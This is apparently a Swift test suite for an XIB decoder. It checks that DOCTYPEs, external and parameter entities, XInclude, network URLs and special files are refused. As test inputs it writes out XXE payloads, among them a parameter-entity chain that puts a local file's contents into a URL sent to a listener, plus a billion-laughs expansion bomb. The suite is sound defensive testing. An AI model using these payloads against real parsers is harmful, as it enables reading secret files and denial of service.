import Foundation
import Testing
import XIBDecoder

/// Entities, DTDs, XInclude and other ways a file can ask for content from elsewhere: each is
/// refused with its own error, and nothing outside the input is opened or contacted.
@Suite("External content")
struct ExternalContentTests {
    @Test("An external file entity is refused and the file is never opened")
    func externalFileEntity() throws {
        let secret = try WatchedFile()
        let input = HostileInput.xib(#"<objects><placeholder placeholderIdentifier="IBFilesOwner" id="-1" userLabel="&secret;"/></objects>"#,
                                     prolog: "<!DOCTYPE document [<!ENTITY secret SYSTEM \"file://\(secret.path)\">]>\n")
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        #expect(error.location?.line == 2)
        #expect(error.location?.column == 1)
        #expect(error.description.hasPrefix("hostile.xib:2:1: error: the file has a DOCTYPE declaration"))
        #expect(!error.description.contains(secret.marker))
        #expect(!secret.wasTouched)
    }

    @Test("An entity used in text content is refused and the file is never opened")
    func externalEntityInText() throws {
        let secret = try WatchedFile()
        let input = HostileInput.xib(#"<objects><string key="text">&secret;</string></objects>"#,
                                     prolog: "<!DOCTYPE document [\n<!ENTITY secret SYSTEM \"\(secret.path)\">\n]>\n")
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        #expect(!secret.wasTouched)
    }

    @Test("An external DTD and a network entity on a loopback port receive no connection")
    func networkEntity() throws {
        let listener = try LoopbackListener()
        let prolog = "<!DOCTYPE document SYSTEM \"\(listener.url("document.dtd"))\" [<!ENTITY remote SYSTEM \"\(listener.url("entity"))\">]>\n"
        let input = HostileInput.xib(#"<objects><placeholder placeholderIdentifier="IBFilesOwner" id="-1" userLabel="&remote;"/></objects>"#,
                                     prolog: prolog)
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        #expect(error.location?.line == 2)
        #expect(!listener.receivedConnection())
    }

    @Test("Parameter entities are refused before they are expanded")
    func parameterEntities() throws {
        let secret = try WatchedFile()
        let listener = try LoopbackListener()
        let prolog = """
            <!DOCTYPE document [
              <!ENTITY % file SYSTEM "file://\(secret.path)">
              <!ENTITY % remote SYSTEM "\(listener.url("evil.dtd"))">
              %remote;
              <!ENTITY % wrapper "<!ENTITY send SYSTEM '\(listener.url("?%file;"))'>">
              %wrapper;
            ]>

            """
        let input = HostileInput.xib(#"<objects><string key="text">&send;</string></objects>"#, prolog: prolog)
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        #expect(error.location?.line == 2)
        #expect(!secret.wasTouched)
        #expect(!listener.receivedConnection())
    }

    @Test("Billion laughs is refused at its DOCTYPE, before any expansion")
    func billionLaughs() throws {
        var prolog = "<!DOCTYPE document [\n<!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            let previous = String(repeating: "&lol\(level - 1);", count: 10)
            prolog += "<!ENTITY lol\(level) \"\(previous)\">\n"
        }
        prolog += "]>\n"
        let input = HostileInput.xib(#"<objects><string key="text">&lol9;</string></objects>"#, prolog: prolog)
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        #expect(error.location?.line == 2)
    }

    @Test("Any DOCTYPE is refused", arguments: [
        "<!DOCTYPE document>",
        #"<!DOCTYPE document PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#,
        "<!DOCTYPE document [<!ELEMENT document ANY>]>",
        "<!DOCTYPE document [<!ATTLIST document injected CDATA \"yes\">]>",
        "<!-- a comment first -->\n<!DOCTYPE document>",
    ])
    func anyDoctype(prolog: String) throws {
        let input = HostileInput.xib("<objects/>", prolog: prolog + "\n")
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .doctypeNotAllowed)
        let expected = try #require(HostileInput.position(of: "<!DOCTYPE", in: input))
        #expect(error.location?.line == expected.line)
        #expect(error.location?.column == expected.column)
    }

    @Test("XInclude is refused at the include element, and its target is never read",
          arguments: ["http://www.w3.org/2001/XInclude", "http://www.w3.org/2003/XInclude"])
    func xinclude(namespace: String) throws {
        let secret = try WatchedFile()
        let listener = try LoopbackListener()
        let body = """
            <objects>
                <placeholder placeholderIdentifier="IBFilesOwner" id="-1"/>
                <xi:include xmlns:xi="\(namespace)" href="file://\(secret.path)" parse="text"/>
                <xi:include xmlns:xi="\(namespace)" href="\(listener.url("include.xml"))"/>
            </objects>
            """
        let input = HostileInput.xib(body)
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .xincludeNotAllowed)
        #expect(error.location?.line == 5)
        #expect(error.location?.column == 5)
        #expect(!secret.wasTouched)
        #expect(!listener.receivedConnection())
    }

    @Test("Stylesheets, schema locations and namespaces pointing elsewhere are inert")
    func inertReferences() throws {
        let secret = try WatchedFile()
        let listener = try LoopbackListener()
        let prolog = "<?xml-stylesheet type=\"text/xsl\" href=\"\(listener.url("style.xsl"))\"?>\n"
        let body = """
            <objects xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x \(listener.url("schema.xsd"))">
                <placeholder placeholderIdentifier="IBFilesOwner" id="-1" userLabel="file://\(secret.path)"/>
            </objects>
            """
        let document = try XIBReader().read(HostileInput.xib(body, prolog: prolog), path: "inert.xib")
        let owner = try #require(document.element(withID: "-1"))
        #expect(document.attribute("userLabel", of: owner) == "file://\(secret.path)")
        let everything = document.allElements.flatMap { document.attributes(of: $0).map(\.value) + [document.text(of: $0)] }
        #expect(!everything.contains { $0.contains(secret.marker) && !$0.hasPrefix("file://") })
        #expect(!secret.wasTouched)
        #expect(!listener.receivedConnection())
    }

    @Test("An undeclared entity is malformed, with its position")
    func undeclaredEntity() throws {
        let input = HostileInput.xib(#"<objects><string key="text">&secret;</string></objects>"#)
        let error = try #require(HostileInput.readError(input))
        #expect(error.kind == .malformed("Entity 'secret' not defined"))
        #expect(error.location?.line == 3)
    }

    @Test("Reading a file by path reads that file only")
    func readingByPath() throws {
        let secret = try WatchedFile()
        let body = #"<objects><string key="text">&secret;</string></objects>"#
        let prolog = "<!DOCTYPE document [<!ENTITY secret SYSTEM \"file://\(secret.path)\">]>\n"
        let path = secret.path + ".xib"
        try Data(HostileInput.xib(body, prolog: prolog)).write(to: URL(fileURLWithPath: path))
        defer { unlink(path) }
        #expect {
            try XIBDecoder().document(contentsOf: URL(fileURLWithPath: path))
        } throws: { error in
            (error as? UIDescriptionError)?.kind == .doctypeNotAllowed && (error as? UIDescriptionError)?.location?.file == path
        }
        #expect(!secret.wasTouched)
    }

    @Test("A URL that is not a file URL is never fetched")
    func networkURL() throws {
        let listener = try LoopbackListener()
        let url = try #require(URL(string: listener.url("Main.storyboard")))
        #expect {
            try XIBDecoder().document(contentsOf: url)
        } throws: { error in
            (error as? UIDescriptionError)?.kind == .unreadable
        }
        #expect(!listener.receivedConnection())
    }

    @Test("A FIFO or a device is refused without waiting on it", arguments: ["/dev/zero", "fifo"])
    func specialFiles(kind: String) throws {
        var path = kind
        if kind == "fifo" {
            path = NSTemporaryDirectory() + "/uidesc-\(UUID().uuidString).xib"
            #expect(mkfifo(path, 0o600) == 0)
        }
        defer { if kind == "fifo" { unlink(path) } }
        #expect {
            try XIBDecoder().document(contentsOf: URL(fileURLWithPath: path))
        } throws: { error in
            guard let error = error as? UIDescriptionError else { return false }
            return error.kind == .unreadable && error.message.contains("not a regular file") && error.location?.file == path
        }
    }
}
